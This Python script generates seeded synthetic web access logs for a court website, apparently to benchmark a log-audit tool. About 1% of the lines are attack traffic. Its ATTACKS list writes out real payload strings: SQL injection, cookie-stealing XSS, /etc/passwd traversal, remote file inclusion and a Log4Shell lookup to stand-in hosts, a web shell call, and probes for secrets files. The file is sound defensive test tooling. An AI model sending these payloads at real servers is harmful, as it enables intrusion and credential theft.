"""Seeded generator of realistic combined-format access logs for the audit benchmark.

    python benchmarks/audit_gen.py OUT.log LINES [--seed N] [--attack-share 0.01]

A court website's traffic: a few thousand client IPs (a heavy-tailed few make most
requests), pages with their assets, search queries, crawlers, a monitoring probe,
some 404s and 304s, and about 1 % attack traffic drawn from the same classes the
audit detects (SQL injection, XSS, traversal, sensitive files, scanners, web shells,
CVE probes, login brute force, 404 probing).
"""

from __future__ import annotations

import argparse
import json
import random
import time

PAGES = ["/", "/berita", "/berita/{n}", "/pengumuman/{n}", "/jadwal-sidang", "/jadwal-sidang?tanggal=2026-11-{d}",
         "/layanan/ecourt", "/layanan/biaya-perkara", "/profil/struktur-organisasi", "/kontak",
         "/cari?q={word}", "/putusan/{n}", "/feed.xml", "/sitemap.xml", "/ppid/informasi-publik",
         "/galeri/{n}", "/unduh/formulir-{n}.pdf"]
ASSETS = ["/assets/css/main.css?v=3", "/assets/js/app.js?v=3", "/assets/img/logo.png", "/favicon.ico",
          "/assets/fonts/inter.woff2", "/assets/img/banner-{n}.jpg"]
WORDS = ["perceraian", "gugatan", "sidang", "mediasi", "eksekusi", "banding", "waris", "pidana", "jadwal"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Mobile Safari/537.36",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Uptime-Kuma/1.23.11",
]
REFERERS = ["-", "-", "-", "https://www.google.com/", "https://www.google.co.id/", "https://mahkamahagung.go.id/",
            "https://www.facebook.com/", "https://pn-contoh.go.id/", "https://pn-contoh.go.id/berita"]
ATTACKS = [
    "/berita?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/cari?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/unduh?file=../../../../etc/passwd",
    "/index.php?page=http://203.0.113.9/shell.txt?",
    "/cgi-bin/status?cmd=;cat%20/etc/passwd",
    "/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/db.zip",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?${jndi:ldap://198.51.100.7:1389/a}",
    "/wp-content/uploads/2024/shell.php?cmd=id",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def _ip(rng):
    return "%d.%d.%d.%d" % (rng.choice((36, 39, 103, 110, 114, 120, 125, 180, 182, 202)), rng.randrange(256),
                            rng.randrange(256), rng.randrange(1, 255))


def generate(path, lines, seed=1, attack_share=0.01, start=None):
    rng = random.Random(seed)
    clients = [(_ip(rng), rng.choice(AGENTS)) for _ in range(4000)]
    cum, total = [], 0.0
    for i in range(len(clients)):
        total += 1.0 / (i + 1) ** 0.8
        cum.append(total)
    bots = [("66.249.66.%d" % rng.randrange(1, 255), BOTS[0]), ("157.55.39.%d" % rng.randrange(1, 255), BOTS[1]),
            (_ip(rng), BOTS[2]), ("10.0.0.5", BOTS[3])]
    attackers = [(_ip(rng), rng.choice(AGENTS + SCANNERS)) for _ in range(60)]
    t = start or time.mktime((2026, 11, 1, 0, 0, 0, 0, 0, 0))
    step = 86400.0 * 3 / max(lines, 1)  # three days of traffic
    out = []
    written = 0
    with open(path, "w", encoding="utf-8") as handle:
        while written < lines:
            t += rng.expovariate(1.0 / step)
            tm = time.gmtime(t)
            stamp = "%02d/%s/%04d:%02d:%02d:%02d +0700" % (tm.tm_mday, MONTHS[tm.tm_mon - 1], tm.tm_year,
                                                          tm.tm_hour, tm.tm_min, tm.tm_sec)
            r = rng.random()
            method, status, size, ref = "GET", 200, rng.randrange(300, 60000), rng.choice(REFERERS)
            if r < attack_share:
                ip, agent = rng.choice(attackers)
                kind = rng.random()
                if kind < 0.15:
                    method, target, status, size = "POST", "/login", 401, 512
                elif kind < 0.30:
                    target, status, size = "/%s-%d.php" % (rng.choice(WORDS), rng.randrange(10**6)), 404, 153
                else:
                    target = rng.choice(ATTACKS)
                    status = rng.choice((404, 403, 400, 200))
            elif r < 0.12:
                ip, agent = rng.choice(bots)
                target = rng.choice(PAGES).format(n=rng.randrange(1, 500), d=rng.randrange(10, 30), word=rng.choice(WORDS))
                ref = "-"
            else:
                ip, agent = rng.choices(clients, cum_weights=cum)[0] if rng.random() < 0.3 else rng.choice(clients)
                if rng.random() < 0.55:
                    target = rng.choice(ASSETS).format(n=rng.randrange(1, 12))
                    if rng.random() < 0.3:
                        status, size = 304, 0
                else:
                    target = rng.choice(PAGES).format(n=rng.randrange(1, 2000), d=rng.randrange(10, 30),
                                                      word=rng.choice(WORDS))
                    if rng.random() < 0.03:
                        status, size = 404, 153
            out.append('%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (ip, stamp, method, target, status, size,
                                                                          ref, agent))
            written += 1
            if len(out) >= 10000:
                handle.write("".join(out))
                out = []
        handle.write("".join(out))
    with open(path + ".truth.json", "w", encoding="utf-8") as handle:
        json.dump({"attackers": sorted({ip for ip, _ in attackers}), "lines": written, "seed": seed}, handle)
    return written


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out")
    ap.add_argument("lines", type=int)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--attack-share", type=float, default=0.01)
    args = ap.parse_args()
    generate(args.out, args.lines, args.seed, args.attack_share)


if __name__ == "__main__":
    main()
